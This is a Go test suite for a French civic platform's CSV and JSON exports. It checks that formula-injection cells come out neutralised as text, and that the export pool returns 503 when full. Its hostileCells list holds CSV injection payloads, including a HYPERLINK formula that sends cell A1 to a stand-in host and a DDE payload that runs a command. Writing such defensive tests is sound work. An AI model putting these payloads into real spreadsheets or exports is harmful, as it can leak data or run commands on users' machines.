package server_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"essor/internal/config"
	"essor/internal/domain"
	"essor/internal/testenv"
)

// hostileCells are texts a spreadsheet would run: OWASP's CSV injection
// cases (a formula, a command through DDE, a function, a sum, a leading tab
// and carriage return).
var hostileCells = []string{`=HYPERLINK("http://x/?"&A1,"Cliquez")`, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
	"\t=1+1 onglet", "\r=1+1 retour"}

// plainNumber is a cell a spreadsheet reads as a number, not a formula.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(,[0-9]+)?$`)

// readExport reads a CSV export as a French spreadsheet does (byte order
// mark, ";") and fails on any cell a spreadsheet would run as a formula: one
// that starts with "=", "+", "-", "@", a tab or a carriage return, unless it
// is a plain number ("-2", "-0,5"). Cells prefixed with "'" are text.
func readExport(tb testing.TB, path string, body string) [][]string {
	tb.Helper()
	if !strings.HasPrefix(body, "\ufeff") {
		tb.Fatalf("%s: no byte order mark", path)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		tb.Fatalf("%s: %v", path, err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				tb.Errorf("%s, line %d, column %d: a formula a spreadsheet would run: %q", path, i+1, j+1, cell)
			}
		}
	}
	return rows
}

// cellsOf is every cell of rows, for "is this text there?".
func cellsOf(rows [][]string) map[string]bool {
	m := map[string]bool{}
	for _, r := range rows {
		for _, c := range r {
			m[c] = true
		}
	}
	return m
}

// Hostile titles, names and labels, through the API where it takes them
// and straight into the read model where it refuses them (too short once
// trimmed, a control character: what older records or an import may hold),
// come out of every export as text, each prefixed with "'"; the numbers
// stay numbers; headers are in sentence case; the open data keeps its
// columns and adds the French labels at the end.
func TestExportsNeutraliseFormulas(t *testing.T) {
	env := testenv.New(t)
	ctx := context.Background()
	actor := env.Account(t, "Mairie de Dole", domain.RoleActor)
	officer := env.Account(t, "FCA", domain.RoleOfficer)
	organiser := env.Account(t, "Région", domain.RoleOrganiser)
	admin := env.Account(t, "Région", domain.RoleAdmin)
	sql := func(q string, args ...any) {
		t.Helper()
		if _, err := env.DB.Pool.Exec(ctx, q, args...); err != nil {
			t.Fatal(err)
		}
	}
	api := hostileCells[:3] // the ones the API takes as they are

	// Reference data named by admins: every export that names a theme or a territory.
	env.Do(t, "POST", "/api/v1/themes", admin.Token, map[string]any{"slug": "formule", "label_fr": hostileCells[0],
		"label_en": hostileCells[2]}).Expect(t, 201)
	env.Do(t, "PATCH", "/api/v1/territories/25", admin.Token, map[string]any{"name": hostileCells[1]}).Expect(t, 200)

	var needs []string
	for i, h := range hostileCells {
		body := validNeed("Besoin ordinaire numéro " + string(rune('A'+i)))
		body["theme"], body["territory_code"] = "formule", "25"
		if i < len(api) {
			body["title"], body["description"] = h, h+" : les parents qui travaillent la nuit n'ont aucune solution."
		}
		id := env.Do(t, "POST", "/api/v1/needs", actor.Token, body).Expect(t, 201).Map(t)["id"].(string)
		if i >= len(api) {
			sql("UPDATE needs SET title = $1, description = $1 WHERE id = $2", h, id)
		}
		needs = append(needs, id)
	}
	env.Do(t, "POST", "/api/v1/needs/"+needs[0]+"/transitions", officer.Token, map[string]any{"action": "qualify"}).Expect(t, 200)

	study := application("")
	study["project_title"], study["host_company"], study["sponsor"] = api[0], api[1], api[2]
	env.Do(t, "POST", "/api/v1/study-actions", actor.Token, study).Expect(t, 201)
	other := env.Do(t, "POST", "/api/v1/study-actions", actor.Token, application("")).Expect(t, 201).Map(t)["id"].(string)
	sql("UPDATE study_actions SET project_title = $1, host_company = $2, sponsor = $3 WHERE id = $4",
		hostileCells[3], hostileCells[4], hostileCells[5], other)

	call := func(title string) string {
		return env.Do(t, "POST", "/api/v1/calls", officer.Token, map[string]any{"title": title,
			"description": "Nous cherchons des territoires pour expérimenter une épicerie solidaire itinérante.",
			"opens_at":    time.Now().Add(time.Hour).Format(time.RFC3339), "closes_at": time.Now().AddDate(0, 1, 0).Format(time.RFC3339)}).
			Expect(t, 201).Map(t)["id"].(string)
	}
	for _, h := range api {
		call(h)
	}
	for _, h := range hostileCells[3:] {
		sql("UPDATE calls SET title = $1 WHERE id = $2", h, call("Appel ordinaire"))
	}
	for _, h := range api {
		env.Do(t, "POST", "/api/v1/rally/rounds", organiser.Token, roundBody(h)).Expect(t, 201)
	}
	for _, h := range hostileCells[3:] {
		id := env.Do(t, "POST", "/api/v1/rally/rounds", organiser.Token, roundBody("Rally'nov ordinaire")).Expect(t, 201).Map(t)["id"].(string)
		sql("UPDATE rally_rounds SET title = $1 WHERE id = $2", h, id)
	}

	b := newBrowser(t, env)
	read := func(path string) [][]string {
		t.Helper()
		r := b.get(path).expect(t, 200)
		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s: %s", path, r.Header.Get("Content-Type"))
		}
		return readExport(t, path, r.Body)
	}
	wants := func(path string, rows [][]string, texts ...string) {
		t.Helper()
		cells := cellsOf(rows)
		for _, s := range texts {
			// A carriage return inside a field is dropped by the CRLF writer
			// (and by spreadsheets): the prefix still comes first.
			s = strings.ReplaceAll(s, "\r", "")
			if !cells["'"+s] {
				t.Errorf("%s lacks %q as text", path, "'"+s)
			}
		}
	}
	sentenceCase := func(path string, header []string) {
		t.Helper()
		for _, h := range header {
			if r, _ := utf8.DecodeRuneInString(h); !unicode.IsUpper(r) {
				t.Errorf("%s: the header %q is not in sentence case (%q)", path, h, header)
			}
		}
	}

	rows := read("/besoins.csv")
	wants("/besoins.csv", rows, append(slices.Clone(hostileCells), hostileCells[0], hostileCells[1])...) // titles, theme, territory
	sentenceCase("/besoins.csv", rows[0])
	if rows[0][6] != "Remonté le" || len(rows) != 1+len(hostileCells) {
		t.Fatalf("/besoins.csv %q", rows[0])
	}
	if rows := read("/besoins.csv?theme=formule&stage=qualified"); len(rows) != 2 || rows[1][1] != "'"+hostileCells[0] || rows[1][8] != "0" {
		t.Fatalf("filtered %q", rows)
	}

	rows = read("/fonds-de-confiance.csv")
	wants("/fonds-de-confiance.csv", rows, hostileCells...)
	sentenceCase("/fonds-de-confiance.csv", rows[0])
	if rows[1][6] != "20000" || rows[1][9] != "1" { // amounts and leverage stay numbers
		t.Fatalf("study-action amounts %q", rows[1])
	}

	rows = read("/appels.csv")
	wants("/appels.csv", rows, hostileCells...)
	sentenceCase("/appels.csv", rows[0])

	rows = read("/rallye.csv")
	wants("/rallye.csv", rows, hostileCells...)
	sentenceCase("/rallye.csv", rows[0])
	if rows[0][2] != "Phase en cours" || rows[0][6] != "Créée le" || rows[1][2] != "Aucune (le rallye n'a pas commencé)" {
		t.Fatalf("/rallye.csv: the phase in words, the right date %q %q", rows[0], rows[1])
	}
	english := newBrowser(t, env)
	english.post("/langue", url.Values{"lang": {"en"}, "retour": {"/rallye"}}).redirects(t, "/rallye")
	if en := readExport(t, "/rallye.csv", english.get("/rallye.csv").expect(t, 200).Body); en[0][6] != "Created on" ||
		en[1][2] != "None (the rally has not started)" {
		t.Fatalf("in English: %q %q", en[0], en[1])
	}

	rows = readExport(t, "/api/v1/indicators.csv", string(env.Do(t, "GET", "/api/v1/indicators.csv", "", nil).Expect(t, 200).Body))
	wants("/api/v1/indicators.csv", rows, hostileCells[0], hostileCells[1]) // the theme's and the territory's names
	sentenceCase("/api/v1/indicators.csv", rows[0])

	rows = read("/donnees-ouvertes/besoins.csv")
	wants("/donnees-ouvertes/besoins.csv", rows, hostileCells...)
	want := []string{"id", "titre", "description", "thematique", "territoire", "etape", "remonte_le", "etape_depuis",
		"soutiens", "structure", "forme_juridique", "origine", "emplois_crees"} // the published columns, first and in order
	if !slices.Equal(rows[0][:len(want)], want) || !slices.Equal(rows[0][len(want):],
		[]string{"thematique_libelle", "territoire_libelle", "etape_libelle", "forme_juridique_libelle", "origine_libelle"}) {
		t.Fatalf("open-data columns %q", rows[0])
	}
	first := rows[1] // oldest first: the first need, qualified
	if first[3] != "formule" || first[4] != "25" || first[5] != "qualified" || first[13] != "'"+hostileCells[0] ||
		first[14] != "'"+hostileCells[1] || first[15] != "Besoin qualifié" {
		t.Fatalf("open data codes and labels %q", first)
	}

	// JSON needs nothing: a JSON reader takes a string as a string.
	var list []map[string]any
	if err := json.Unmarshal([]byte(b.get("/donnees-ouvertes/besoins.json").expect(t, 200).Body), &list); err != nil || len(list) != len(hostileCells) {
		t.Fatalf("open data JSON: %v %d", err, len(list))
	}
	if list[0]["title"] != hostileCells[0] || list[0]["theme_label"] != hostileCells[0] || list[0]["stage_label"] != "Besoin qualifié" ||
		list[0]["territory_label"] != hostileCells[1] || list[0]["legal_form_label"] != nil {
		t.Fatalf("open data JSON %v", list[0])
	}
}

// A full pool of exports answers 503 with Retry-After and the French error
// page, on every streamed export, before reading any page; a place given
// back is taken again, and a finished or refused export gives its own back.
func TestExportsBounded(t *testing.T) {
	env := testenv.New(t, func(c *config.Config) { c.ExportConcurrency = 1 })
	newPipeline(t, env)
	b := newBrowser(t, env)
	for range 3 { // one place: each export gives it back when its body ends
		b.get("/besoins.csv").expect(t, 200)
		b.get("/donnees-ouvertes/besoins.json").expect(t, 200)
	}
	release := env.Server.HoldExports()
	for _, path := range []string{"/besoins.csv", "/fonds-de-confiance.csv", "/appels.csv", "/rallye.csv",
		"/donnees-ouvertes/besoins.csv", "/donnees-ouvertes/besoins.json"} {
		r := b.get(path).expect(t, 503, "Trop de téléchargements sont en cours")
		if r.Header.Get("Retry-After") != "5" || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
			t.Fatalf("%s: %v", path, r.Header)
		}
	}
	// The indicators' table is aggregates, written at once: outside the pool.
	env.Do(t, "GET", "/api/v1/indicators.csv", "", nil).Expect(t, 200)
	// A refused filter is still a 422 when the pool has room, and never takes a place.
	release()
	b.get("/besoins.csv?cursor=nimportequoi").expect(t, 422)
	b.get("/besoins.csv?stage=nope").expect(t, 422)
	b.get("/besoins.csv").expect(t, 200)
}
